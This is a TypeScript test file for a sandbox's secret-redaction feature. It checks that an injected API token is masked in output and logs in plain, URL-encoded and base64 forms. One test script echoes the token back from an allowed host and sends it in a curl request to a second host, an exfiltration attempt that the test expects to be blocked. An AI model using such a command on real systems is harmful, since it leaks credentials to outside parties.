/**
 * A server that shows again what it was sent: the guest never had the secret, and its output does not show it.
 * Ablated: `redact: false`.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { WorldClient } from '../e2e/network/world-client.ts';

const skip = process.geteuid?.() === 0 ? false : 'needs root';
const VALUE = 'tk-9f3/aZ+really=secret';
const secrets = { API_TOKEN: VALUE };
const policy = (more: Readonly<Record<string, unknown>> = {}) => ({
  version: 1 as const,
  network: {
    mode: 'filtered' as const,
    allow: ['one.test'],
    intercept: true,
    secrets: { API_TOKEN: { hosts: ['one.test'] } },
  },
  ...more,
});
const forms = [
  VALUE,
  encodeURIComponent(VALUE),
  // Inside base64, what the value alone decides.
  Buffer.from(`me:${VALUE}`).toString('base64').slice(4, -4),
];
const fetched = (where = '') => [
  'sh',
  '-c',
  `curl -sS --max-time 8 -H "Authorization: Bearer $API_TOKEN" https://one.test/echo${where}`,
];

describe('secrets that a server shows again', { skip }, () => {
  let world: WorldClient;
  before(async () => {
    world = await WorldClient.start();
  });
  after(async () => {
    await world.stop();
  });

  test('ablated: the server was sent the value, and shows it in each form', async () => {
    const shown = await world.run(fetched(), policy({ sideChannels: { redact: false } }), secrets);
    assert.equal(shown.seen.requests[0]?.token, `Bearer ${VALUE}`, shown.stderr);
    for (const form of forms) assert.ok(shown.stdout.includes(form), shown.stdout);
  });

  for (const how of ['run', 'spawn', 'exec', 'shell', 'file'] as const) {
    test(`${how}: the name stands in place of each form`, async () => {
      const { stdout, stderr, seen } = await world.run(
        fetched(how === 'file' ? ' -o /tmp/out' : ''),
        policy(),
        secrets,
        how,
      );
      assert.equal(seen.requests[0]?.token, `Bearer ${VALUE}`, stderr);
      for (const form of forms) assert.ok(!stdout.includes(form), stdout);
      const times = how === 'file' ? 6 : 3;
      assert.equal(stdout.split('[secret API_TOKEN]').length - 1, times, stdout);
    });
  }

  test('what the guest then asks for is not told of, nor what the caller wrote into a command', async () => {
    const script = `token=$(curl -sS --max-time 8 -H "Authorization: Bearer $API_TOKEN" https://one.test/echo | head -n 1)
curl -sS --max-time 8 "https://two.test/$token"; true`;
    const run = async (redact: boolean) =>
      await world.run(['sh', '-c', script, VALUE], policy({ sideChannels: { redact } }), secrets);
    const told = await run(false);
    assert.ok(JSON.stringify(told.events).includes(VALUE), 'ablated');
    const { events, violations } = await run(true);
    assert.ok(violations.length > 0, 'two.test is refused');
    const text = JSON.stringify({ events, violations });
    assert.ok(text.includes('[secret API_TOKEN]'));
    assert.ok(!text.includes(VALUE) && !text.includes(encodeURIComponent(VALUE)));
  });
});
